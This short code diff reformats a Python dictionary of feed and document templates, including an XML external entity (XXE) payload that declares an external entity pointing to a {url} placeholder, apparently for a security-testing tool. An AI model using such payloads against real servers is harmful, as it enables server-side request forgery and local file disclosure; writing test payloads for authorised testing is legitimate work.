@@ -70,7 +70,8 @@ DOORS = {
     "asx": '<asx version="3.0"><entry><ref href="{url}"/></entry></asx>',
     "opml": '<opml version="2.0"><body><outline type="rss" xmlUrl="{url}"/></body></opml>',
     "xxe": (
-        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY f SYSTEM "{url}">]><rss version="2.0"><channel><title>&f;</title>'
+        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY f SYSTEM "{url}">]>'
+        '<rss version="2.0"><channel><title>&f;</title>'
         "<item><title>&f;</title></item></channel></rss>"
     ),
     "external_dtd": (
